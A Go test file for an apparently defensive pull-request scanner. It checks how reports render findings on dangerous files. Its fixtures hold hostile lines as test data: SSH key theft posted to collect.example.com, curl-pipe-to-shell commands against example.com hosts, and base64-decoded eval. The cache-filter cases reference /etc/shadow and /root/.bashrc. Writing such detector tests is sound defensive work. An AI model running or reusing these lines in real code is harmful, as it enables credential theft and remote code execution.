package report

import (
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

// threeCase is a pull request with three dangerous files, as the static layer sees them:
// each harm is seen by many rules, and one of them decodes what it runs.
func threeCase() gate.Result {
	const post = "response = requests.post(ENDPOINT, json=payload, timeout=10)"
	keys := found(gate.LayerStatic, "exfiltration/python-key-file-flow", gate.SeverityDangerous, 20, "sends what it reads from a file with keys or passwords over the network", post)
	keys.Flow = []gate.Step{{Line: 12, Text: `key = os.path.join(home, ".ssh", "id_rsa")`}, {Line: 13, Text: "with open(key) as f:"}, {Line: 14, Text: "secret = f.read()"}, {Line: 20, Text: post}}
	channel := found(gate.LayerStatic, "exfiltration/python-channel-flow", gate.SeverityDangerous, 20, "sends keys, the whole environment or the clipboard over a connection that it opens", post)
	channel.Flow = []gate.Step{{Line: 7, Text: `ENDPOINT = "https://collect.example.com/v1/settings"`}, {Line: 20, Text: post}}
	sync := file("app/sync.py", gate.Dangerous, 99,
		found(gate.LayerStatic, "credentials/python-ssh-key", gate.SeverityDangerous, 12, "names the folder of SSH keys, and the file sends data over the network", `key = os.path.join(home, ".ssh", "id_rsa")`),
		found(gate.LayerStatic, "credentials/python-reads-key", gate.SeveritySuspicious, 13, "reads a file near the name of a key or credential file", "with open(key) as f:"),
		keys, channel,
		found(gate.LayerStatic, "exfiltration/python-credentials", gate.SeveritySuspicious, 20, "sends data over the network in a file that reads keys", post))

	pipe := found(gate.LayerStatic, "download-execute/shell-pipe", gate.SeverityDangerous, 3, "runs what it downloads", "curl -s https://cdn.example.com/a | sh")
	pipe.Origin = "base64 on line 3"
	decoder := found(gate.LayerStatic, "dynamic-code/js-decoded-flow", gate.SeverityDangerous, 7, "runs text as code that it decodes first", "return eval(text);")
	decoder.Flow = []gate.Step{{Line: 6, Text: "const text = Buffer.from(template, 'base64').toString('utf8');"}, {Line: 7, Text: "return eval(text);"}}
	load := file("web/load.js", gate.Dangerous, 100, pipe,
		found(gate.LayerStatic, "dynamic-code/js-decoded-code", gate.SeverityDangerous, 7, "runs code that it decodes first", "return eval(text);"), decoder,
		found(gate.LayerStatic, "dynamic-code/js-eval", gate.SeveritySuspicious, 7, "runs text as code with eval", "return eval(text);"))
	text := file("web/load.js!line-3", gate.Safe, 0)
	text.Parent, text.Origin = "web/load.js", "base64 on line 3"

	setup := file("scripts/setup.sh", gate.Dangerous, 83,
		found(gate.LayerStatic, "download-execute/shell-file", gate.SeveritySuspicious, 6, "runs a file that it downloads", "chmod +x /tmp/agent.sh"),
		found(gate.LayerStatic, "download-execute/shell-file", gate.SeveritySuspicious, 7, "runs a file that it downloads", "/tmp/agent.sh --quiet"),
		found(gate.LayerStatic, "download-execute/shell-pipe", gate.SeverityDangerous, 18, "runs what it downloads", "curl -s https://get.example.com/extra.sh | sh"))
	ok := file("app/ok.py", gate.Safe, 0)
	ok.Execution = exited(0, "python3", "-I", "app/ok.py")
	ok.Execution.Behaviour = []gate.Behaviour{{Kind: "write", Detail: "/workspace/out.txt", Count: 1}}
	built := file("cmd/tool/main.go", gate.Suspicious, 30, found(gate.LayerStatic, "network/dial", gate.SeveritySuspicious, 9, "opens a connection", "net.Dial(network, address)"))
	built.Execution = exited(1, "go", "run", "./cmd/tool")
	built.Execution.Units = append(built.Execution.Units, built.Execution.Units[0])
	built.Execution.Behaviour = []gate.Behaviour{{Kind: "write", Detail: "/tmp/gocache/7f/7f00-d", Count: 1}, {Kind: "read", Detail: "/tmp/gocache/7f/7f00-a", Count: 12},
		{Kind: "exec", Detail: "/tmp/go-build1/b001/exe/tool", Count: 1}, {Kind: "connect", Detail: "198.51.100.7:443", Count: 1}}
	return document(gate.DecisionBlock, gate.Dangerous, layersRan(notSelectedLayer(gate.LayerJudge), sandboxRan()), load, text, sync, setup, built, ok)
}

// A reviewer sees what the pull request would do without scrolling.
func TestACommentOnThreeDangerousFilesFitsOnOneScreen(t *testing.T) {
	const screen, width = 45, 110
	comment := render(t, "markdown", threeCase(), goldenOptions())
	if n := shownLines(comment, width); n > screen {
		t.Errorf("%d lines of %d columns, want at most %d:\n%s", n, width, screen, comment)
	}
	for _, sentence := range []string{
		"Reads `~/.ssh/id_rsa` and sends it to `collect.example.com` (lines 12 → 20)",
		"Decodes text and runs it, which downloads code from `cdn.example.com` and runs that (lines 6 → 7)",
		"Downloads code from `get.example.com` and runs it",
	} {
		if before, _, found := strings.Cut(comment, sentence); !found || shownLines(before, width) > 8 {
			t.Errorf("%q is not at the top of:\n%s", sentence, comment)
		}
	}
}

// shownLines is how many lines a page shows of Markdown: of a folded section its title, of
// a link its text.
func shownLines(md string, width int) int {
	n, hidden := 0, false
	for line := range strings.Lines(md) {
		line = strings.TrimRight(line, "\n")
		switch {
		case line == "</details>":
			hidden = false
		case hidden:
		case strings.HasPrefix(line, "<details>"):
			n, hidden = n+1, true
		default:
			for {
				before, rest, ok := strings.Cut(line, "](<")
				if !ok {
					break
				}
				_, rest, _ = strings.Cut(rest, ">)")
				line = before + rest
			}
			n += 1 + len([]rune(line))/width
		}
	}
	return n
}

func TestTextShowsWhatARunDidWhereItMatters(t *testing.T) {
	short, all := render(t, "text", threeCase(), Options{Width: 300}), render(t, "text", threeCase(), Options{Width: 300, Verbose: true})
	for _, c := range []struct {
		what, text       string
		inShort, verbose bool
	}{
		{"what a file with a finding did", "did connect: 198.51.100.7:443", true, true},
		{"a program in a folder of build files, because it was started", "did exec: /tmp/go-build1/b001/exe/tool", true, true},
		{"files of the cache of a build tool", "/tmp/gocache/", false, true},
		{"that a second run printed the same", "printed the same as a run above", true, false},
		{"how many of those there are", "2 steps of build tools and their caches", true, false},
		{"what a file without a finding did", "/workspace/out.txt", false, true},
		{"how many such runs there are", "1 run of files without findings not shown", true, false},
		{"the other rules by name", "also: exfiltration/python-channel-flow, credentials/python-ssh-key (line 12)", true, false},
		{"what the other rules say", "names the folder of SSH keys", false, true},
		{"what the rule says behind the sentence", "In the words of the rule: sends what it reads from a file", false, true},
		{"text that came out of a file, with nothing in it", "web/load.js!line-3", false, true},
	} {
		if got := strings.Contains(short, c.text); got != c.inShort {
			t.Errorf("%s: shown is %t, want %t in:\n%s", c.what, got, c.inShort, short)
		}
		if got := strings.Contains(all, c.text); got != c.verbose {
			t.Errorf("%s with --verbose: shown is %t, want %t in:\n%s", c.what, got, c.verbose, all)
		}
	}
}

func TestCacheFilesAloneAreLeftOut(t *testing.T) {
	for _, c := range []struct {
		kind, detail string
		want         bool
	}{
		{"write", "/tmp/gocache/00/00ff-a", true},
		{"read", "/tmp/go-build123/b001/importcfg", true},
		{"list", "/tmp/gocache", true},
		{"mode", "/tmp/gocache/00/00ff-a 644", true},
		{"rename", "/tmp/gocache/a → /tmp/gocache/b", true},
		{"write", "/root/.cache/go-build/00/a", true},
		{"write", "/workspace/pkg/__pycache__/a.cpython-312.pyc", true},
		{"rename", "/tmp/go-build1/b001/exe/a.out → /tmp/program", true},
		{"exec", "/usr/local/go/pkg/tool/linux_amd64/compile -V=full", true},
		{"exec", "/usr/local/go/pkg/tool/linux_amd64/link -o x with (ssh key)", false},
		{"exec", "/usr/local/go/pkg/tool/../../../bin/sh -c x", false},
		{"exec", "/usr/local/go/bin/go build -o /tmp/program .", false},
		{"exec", "/tmp/program", false},
		{"write", "/tmp/gocache-of-mine/x", false},
		{"write", "/tmp/gocache/../x", false},
		{"write", "/workspace/x /tmp/gocache/x", false},
		{"rename", "/tmp/gocache/a → /root/.bashrc", false},
		{"link", "/tmp/gocache/a → /etc/shadow", false},
		{"write", "/tmp/gocache/a with <ssh key>", false},
		{"write", "/root/.cache/other", false},
		{"exec", "/tmp/go-build123/b001/exe/main", false},
		{"connect", "unix:/tmp/gocache/x", false},
	} {
		if got := inCache(gate.Behaviour{Kind: c.kind, Detail: c.detail}); got != c.want {
			t.Errorf("%s %s: %t", c.kind, c.detail, got)
		}
	}
}
